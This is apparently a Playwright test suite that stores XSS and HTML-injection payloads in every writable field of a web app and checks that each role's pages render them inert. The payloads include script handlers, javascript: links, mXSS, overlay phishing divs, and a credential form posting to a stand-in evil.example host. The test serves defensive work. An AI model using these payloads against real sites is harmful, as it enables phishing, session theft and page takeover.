import { expect, test, type Browser, type Page } from '@playwright/test';
import { signIn, transitionThroughApi } from './support';
import { uniqueWord } from './unique';

/**
 * Stored injection (SPEC §7): hostile text is stored through the API in every field a user can
 * write, then every page that shows it is loaded as each role. Nothing may run, nothing from user
 * text may sit over the page, and no form, frame or style from user text may reach the page.
 *
 * The CSP already refuses inline scripts, so "nothing ran" alone would pass with no sanitising at
 * all: the page is also searched for what sanitising must remove (handlers, scripts, styles,
 * forms, frames, javascript: links). CSP violations are no signal: DOMPurify's own inert parse of
 * the hostile HTML reports them before it removes what they name.
 */

const CSRF_HEADERS = { 'X-Requested-With': 'fetch' };
/** Text every overlay payload carries: the element holding it must not be positioned over the page. */
const OVERLAY = 'SESSION-EXPIRED-OVERLAY';
/** In every hostile style: no inline style the app sets ever contains it. */
const OVERLAY_Z = '2147483647';

/** The payloads, for fields that hold Markdown (bodies, comments, section text, notes). */
const PAYLOADS = [
  '<script>window.__xss = "script"; alert("script")</script>',
  "<img src=x onerror=\"window.__xss='img'; alert('img')\">",
  '<svg onload="window.__xss=\'svg\'; alert(\'svg\')"><circle r="40"></circle></svg>',
  '<svg><animate onbegin="alert(\'animate\')" attributeName="x" dur="1s"></animate></svg>',
  '<details open ontoggle="alert(\'details\')"><summary>details</summary></details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(\'mxss\')"></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(\'href\')">javascript link</a>',
  '<a href="  JaVaScRiPt:alert(\'mixed-case\')">mixed case link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '[markdown javascript link](javascript:alert("md-link"))',
  '[markdown entity link](jav&#x61;script:alert("md-entity"))',
  '![markdown image](javascript:alert("md-image"))',
  '![broken image](x" onerror="alert(\'md-image-attribute\'))',
  '[reference link][evil]\n\n[evil]: javascript:alert("md-reference")',
  `<div style="position:fixed;inset:0;z-index:${OVERLAY_Z};background:#fff">${OVERLAY} <a href="https://evil.example/login">Sign in again</a></div>`,
  `<a href="https://evil.example/login" style="position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:${OVERLAY_Z}">${OVERLAY} link</a>`,
  `<p style="position:fixed;top:0;left:0;z-index:${OVERLAY_Z}">${OVERLAY} paragraph</p>`,
  '<style>/*INJECTED*/ body { visibility: hidden } </style>',
  '<link rel="stylesheet" href="https://evil.example/injected.css">',
  '<form action="https://evil.example/steal" method="post"><input name="stolen-password" type="password"><button>Sign in</button></form>',
  '<iframe src="javascript:parent.alert(\'iframe\')"></iframe>',
  '<iframe srcdoc="<script>parent.alert(\'srcdoc\')</script>"></iframe>',
  '<object data="javascript:alert(\'object\')"></object><embed src="javascript:alert(\'embed\')">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<input autofocus onfocus="alert(\'autofocus\')">',
  '<p class="mantine-Overlay-root" id="root" name="root">clobbering class and id</p>',
  '"><img src=x onerror="alert(\'attribute-break\')">',
  '[a plain https link](https://evil.example/page)',
];
const CORPUS = PAYLOADS.join('\n\n');
/** As many whole payloads as a field of `limit` characters holds. */
const corpusWithin = (limit: number) =>
  PAYLOADS.reduce((text, payload) => (text.length + payload.length + 2 <= limit ? `${text}${payload}\n\n` : text), '');

/** For fields of one line with a length limit: the payloads that matter most, under 200 characters. */
const SHORT = `"><img src=x onerror=alert('t')><svg/onload=alert('s')>[x](javascript:alert('l'))<b style="position:fixed;z-index:${OVERLAY_Z}">${OVERLAY}</b>`;
const SHORTER = `<img src=x onerror=alert('n')><b style=position:fixed>${OVERLAY}</b>`;

interface Stored {
  word: string;
  pilot: string;
  lesson: string;
  submitted: string;
  editionId: string;
  chapterId: string;
}

/** The alerts each page has shown: a payload that runs calls alert(). */
const dialogsOf = new WeakMap<Page, string[]>();

async function personFor(browser: Browser, email: string): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  dialogsOf.set(page, dialogs);
  await signIn(page, email);
  return page;
}

async function api(page: Page, method: 'post' | 'patch', path: string, data: unknown): Promise<Record<string, string>> {
  const response = await page.request[method](`/api/v1${path}`, { data, headers: CSRF_HEADERS });
  expect(response.ok(), `${method} ${path}: ${await response.text()}`).toBe(true);
  return (await response.json()) as Record<string, string>;
}

/** Everything a user can write, written as hostile text by the role that may write it. */
async function storeHostileText(browser: Browser): Promise<Stored> {
  const word = uniqueWord();
  const admin = await personFor(browser, 'admin@example.org');
  const secretariat = await personFor(browser, 'secretariat@example.org');
  const member = await personFor(browser, 'member@example.org');
  const member2 = await personFor(browser, 'member2@example.org');
  const delegate = await personFor(browser, 'delegate@example.org');

  const organisation = await api(admin, 'post', '/organisations', {
    name: `${word} ${SHORT}`,
    type: 'CUSTOMS_ADMINISTRATION',
    country: 'KR',
  });
  await api(admin, 'post', '/users', {
    email: `${word}@example.org`,
    displayName: `${word} ${SHORTER}`.slice(0, 120),
    organisationId: organisation.id,
    role: 'MEMBER',
  });
  await api(secretariat, 'post', '/technologies', {
    slug: word,
    nameEn: `${word} ${SHORTER}`.slice(0, 100),
    nameFr: `${word} ${SHORTER}`.slice(0, 100),
    description: corpusWithin(2000),
  });
  await api(secretariat, 'post', '/sources', { slug: word, name: `${word} ${SHORT}`, kind: 'MEMBER' });
  const meeting = await api(secretariat, 'post', '/meetings', {
    source: word,
    title: `${word} ${SHORT}`,
    startDate: '2019-03-01',
    location: SHORT,
    agendaRef: 'javascript:alert("agenda")',
    notes: CORPUS,
  });

  const common = {
    summary: `${word} ${SHORT}`,
    body: CORPUS,
    technologies: [word],
    source: word,
    meetingId: meeting.id,
    documentRef: 'javascript:alert("document-ref")',
    language: 'en',
  };
  const pilot = (
    await api(member, 'post', '/items', {
      ...common,
      kind: 'PILOT',
      title: `Pilot ${word} ${SHORT}`,
      administrationId: organisation.id,
      country: 'KR',
      partners: [SHORT, SHORTER],
      startDate: '2019-01-01',
      stage: 'ONGOING',
      outcomes: CORPUS,
    })
  ).reference;
  const lesson = (
    await api(member, 'post', '/items', {
      ...common,
      kind: 'LESSON',
      title: `Lesson ${word} ${SHORT}`,
      context: CORPUS,
      lesson: CORPUS,
    })
  ).reference;
  const submitted = (
    await api(member, 'post', '/items', {
      ...common,
      kind: 'RECOMMENDATION',
      title: `Recommendation ${word} ${SHORT}`,
      addressees: ['MEMBERS'],
    })
  ).reference;
  for (const reference of [pilot, lesson, submitted]) await transitionThroughApi(member, reference, 'submit');
  for (const reference of [pilot, lesson]) await transitionThroughApi(secretariat, reference, 'accept', CORPUS);

  await api(delegate, 'post', `/items/${pilot}/comments`, { body: CORPUS });
  await api(member2, 'post', `/items/${pilot}/comments`, { body: CORPUS });
  await api(member, 'post', `/items/${submitted}/comments`, { body: CORPUS });
  await api(secretariat, 'post', `/items/${pilot}/comments`, { body: CORPUS, internal: true });
  await api(secretariat, 'post', `/items/${lesson}/comments`, { body: CORPUS });
  await api(member, 'post', `/items/${pilot}/links`, { target: lesson, type: 'SUPPORTS' });

  const edition = await api(secretariat, 'post', '/report/editions', { label: `${word} ${SHORTER}`.slice(0, 100) });
  const chapter = await api(secretariat, 'post', `/report/editions/${edition.id}/chapters`, {
    title: `${word} ${SHORT}`,
    technology: word,
  });
  const section = await api(secretariat, 'post', `/report/editions/${edition.id}/sections`, {
    chapterId: chapter.id,
    title: `${word} ${SHORT}`,
    anchor: `${word}-section`,
    intro: CORPUS,
  });
  await api(secretariat, 'post', `/report/editions/${edition.id}/sections`, {
    chapterId: chapter.id,
    title: `Empty ${word} ${SHORT}`,
    anchor: `${word}-empty`,
  });
  for (const reference of [pilot, lesson])
    await api(secretariat, 'post', `/report/sections/${section.id}/traces`, {
      itemRef: reference,
      note: corpusWithin(2000),
    });

  for (const page of [admin, secretariat, member, member2, delegate]) await page.context().close();
  return { word, pilot, lesson, submitted, editionId: edition.id, chapterId: chapter.id };
}

/** What sanitising must have removed, and what must never have happened, on the page as it is now. */
async function expectNothingInjected(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(
    ({ overlay, overlayZ }) => {
      const problems: string[] = [];
      const record = window as unknown as { __xss?: unknown };
      if (record.__xss !== undefined) problems.push(`a script ran: ${String(record.__xss)}`);
      const all = Array.from(document.querySelectorAll('*'));
      for (const element of all) {
        for (const attribute of element.getAttributeNames())
          if (attribute.toLowerCase().startsWith('on')) problems.push(`<${element.localName} ${attribute}>`);
        const style = element.getAttribute('style') ?? '';
        if (style.includes(overlayZ)) problems.push(`hostile style on <${element.localName}>: ${style}`);
      }
      for (const script of Array.from(document.querySelectorAll('script')))
        if (!script.src || new URL(script.src).origin !== location.origin) problems.push('a script element from text');
      for (const style of Array.from(document.querySelectorAll('style')))
        if (style.textContent?.includes('INJECTED')) problems.push('a style element from text');
      const forbidden =
        'iframe, frame, object, embed, base, meta[http-equiv], link[href*="evil"], form[action*="evil"], ' +
        'input[name="stolen-password"], img[src="x"], img[src^="javascript" i], p[class*="Overlay"]';
      for (const element of Array.from(document.querySelectorAll(forbidden)))
        problems.push(`<${element.localName}> from text`);
      if (document.querySelectorAll('[id="root"], [name="root"]').length > 1)
        problems.push('an element clobbering #root');
      for (const link of Array.from(
        document.querySelectorAll<HTMLAnchorElement | HTMLAreaElement>('a[href], area[href]'),
      )) {
        const href = link.getAttribute('href') ?? '';
        if (/^\s*(javascript|data|vbscript):/i.test(href) || /^\s*jav/i.test(href.replace(/&#x?[0-9a-f]+;?/gi, '')))
          problems.push(`a link to ${href}`);
        if (href.startsWith('https://evil.example') && !/noopener/.test(link.rel)) problems.push(`${href} without rel`);
      }
      // The text of every overlay payload sits in an element the page lays out in its flow.
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        if (!node.textContent?.includes(overlay)) continue;
        const holder = node.parentElement as HTMLElement;
        const position = getComputedStyle(holder).position;
        if (position === 'fixed' || position === 'absolute') problems.push(`${overlay} is positioned ${position}`);
        const box = holder.getBoundingClientRect();
        if (box.width >= innerWidth * 0.9 && box.height >= innerHeight * 0.9)
          problems.push(`${overlay} covers the page`);
      }
      return problems;
    },
    { overlay: OVERLAY, overlayZ: OVERLAY_Z },
  );
  const dialogs = dialogsOf.get(page) ?? [];
  expect([...found, ...dialogs.map((message) => `an alert: ${message}`)], where).toEqual([]);
}

async function visit(page: Page, path: string, shows: string | RegExp | null): Promise<void> {
  await page.goto(path);
  if (shows) await expect(page.getByText(shows).first()).toBeVisible();
  // Late renders (queries settling, lazy chunks) get their moment before the page is searched.
  await page.waitForLoadState('networkidle');
  await expectNothingInjected(page, `${path} as ${await page.evaluate(() => document.title)}`);
}

let stored: Stored;

test.describe('stored injection', () => {
  test.describe.configure({ mode: 'serial', timeout: 120_000 });

  test.beforeAll(async ({ browser }) => {
    test.setTimeout(120_000);
    stored = await storeHostileText(browser);
  });

  test('the corpus renders as text on every page, for the member who wrote it and another member', async ({
    browser,
  }) => {
    const { word, pilot, lesson, submitted, editionId, chapterId } = stored;
    const member = await personFor(browser, 'member@example.org');
    await visit(member, `/items/${pilot}`, OVERLAY);
    await visit(member, `/items/${lesson}`, OVERLAY);
    await visit(member, `/items/${submitted}`, OVERLAY);
    await visit(member, `/items?q=${word}`, `Pilot ${word}`);
    await visit(member, '/', null);
    await visit(member, `/report/${editionId}?chapter=${chapterId}`, OVERLAY);
    // The bell lists the accepted items, titles included.
    await member.getByRole('button', { name: /notification/i }).click();
    await expect(member.getByRole('dialog').getByText(`Pilot ${word}`).first()).toBeVisible();
    await expectNothingInjected(member, 'the notifications of the member');

    const member2 = await personFor(browser, 'member2@example.org');
    await visit(member2, `/items/${pilot}`, OVERLAY);
    await visit(member2, `/items?q=${word}`, `Pilot ${word}`);
  });

  test('the Secretariat and the admin see it in triage, the report, its document and the admin pages', async ({
    browser,
  }) => {
    const { word, pilot, submitted, editionId, chapterId } = stored;
    const secretariat = await personFor(browser, 'secretariat@example.org');
    await visit(secretariat, `/items/${pilot}`, OVERLAY);
    await visit(secretariat, `/items/${submitted}`, OVERLAY);
    await visit(secretariat, '/triage', `Recommendation ${word}`);
    await visit(secretariat, `/items?q=${word}&status=SUBMITTED`, `Recommendation ${word}`);
    await visit(secretariat, `/report/${editionId}?chapter=${chapterId}`, OVERLAY);
    await visit(secretariat, `/report/${editionId}?view=coverage`, word);
    await visit(secretariat, `/api/v1/report/editions/${editionId}/document?format=html`, OVERLAY);
    await visit(secretariat, '/insight', null);
    await visit(secretariat, '/admin/taxonomies', word);
    await visit(secretariat, '/', null);

    const admin = await personFor(browser, 'admin@example.org');
    await visit(admin, '/admin/organisations', word);
    await visit(admin, '/admin/users', word);
    await visit(admin, '/admin/audit', null);
    await visit(admin, `/items/${pilot}`, OVERLAY);
  });

  test('a delegate sees it on the item, in browsing, the report, the document and insight', async ({ browser }) => {
    const { word, pilot, lesson, editionId, chapterId } = stored;
    const delegate = await personFor(browser, 'delegate@example.org');
    await visit(delegate, `/items/${pilot}`, OVERLAY);
    await visit(delegate, `/items/${lesson}`, OVERLAY);
    await visit(delegate, `/items?q=${word}`, `Pilot ${word}`);
    await visit(delegate, `/items?technology=${word}`, `Lesson ${word}`);
    await visit(delegate, `/report/${editionId}?chapter=${chapterId}`, OVERLAY);
    await visit(delegate, `/api/v1/report/editions/${editionId}/document?format=html`, OVERLAY);
    await visit(delegate, `/insight?technology=${word}`, null);
  });
});
